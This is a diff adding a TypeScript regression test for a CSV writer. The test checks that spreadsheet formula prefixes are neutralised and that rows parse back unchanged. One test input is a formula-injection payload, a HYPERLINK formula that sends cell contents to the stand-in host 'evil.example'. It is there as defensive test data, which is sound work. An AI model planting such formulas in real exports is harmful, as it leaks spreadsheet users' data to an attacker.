@@ -0,0 +1,56 @@
+// check-csv.ts
+// Regression check for the CSV writer of the /batch page (toCsv in lib/csv.ts):
+// text cells that a spreadsheet would run as a formula must come out as text,
+// and every row must read back (parseCsv) with its original cells.
+//
+// Usage:
+// npm run test:csv (part of npm test)
+
+import { parseCsv, toCsv } from '../lib/csv'
+
+interface CsvCase {
+  id: string
+  description: string
+  row: unknown[]
+  /** Cells expected when the generated CSV is parsed back */
+  expected: string[]
+}
+
+const cases: CsvCase[] = [
+  {
+    id: 'formula-prefixes',
+    description: 'Cells starting with =, +, -, @, tab or CR are prefixed with an apostrophe',
+    row: ['=HYPERLINK("http://evil.example/?"&A1,"clique")', '+55 11 99999-0000', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'],
+    expected: ['\'=HYPERLINK("http://evil.example/?"&A1,"clique")', '\'+55 11 99999-0000', '\'-2+3', '\'@SUM(A1:A9)', '\'\t=1+1', '\'\r=1+1'],
+  },
+  {
+    id: 'plain-values',
+    description: 'Ordinary text and numbers (including negative ones) are unchanged',
+    row: ['Vacina tem chip', 'a = b', 87, -5, '', null, 'texto com "aspas", vírgula\ne quebra'],
+    expected: ['Vacina tem chip', 'a = b', '87', '-5', '', '', 'texto com "aspas", vírgula\ne quebra'],
+  },
+]
+
+function main() {
+  let failures = 0
+
+  for (const c of cases) {
+    const problems: string[] = []
+    const csv = toCsv([c.row.map((_, i) => `col${i + 1}`), c.row])
+    const parsed = parseCsv(csv)[1] || []
+
+    c.expected.forEach((value, i) => {
+      if (parsed[i] !== value) problems.push(`cell ${i + 1}: expected ${JSON.stringify(value)}, got ${JSON.stringify(parsed[i])}`)
+    })
+    const line = csv.split('\r\n')[1] || ''
+    if (/(^|,)[=+\-@\t\r]/.test(line.replace(/(^|,)-\d+(?=,|$)/g, '$1'))) problems.push(`unquoted formula cell in ${JSON.stringify(line.slice(0, 80))}`)
+
+    if (problems.length > 0) failures++
+    console.log(`${problems.length ? '✗' : '✓'} ${c.id} — ${c.description}${problems.length ? `\n    ${problems.join('\n    ')}` : ''}`)
+  }
+
+  console.log(`\n${cases.length - failures}/${cases.length} cases passed`)
+  if (failures > 0) process.exit(1)
+}
+
+main()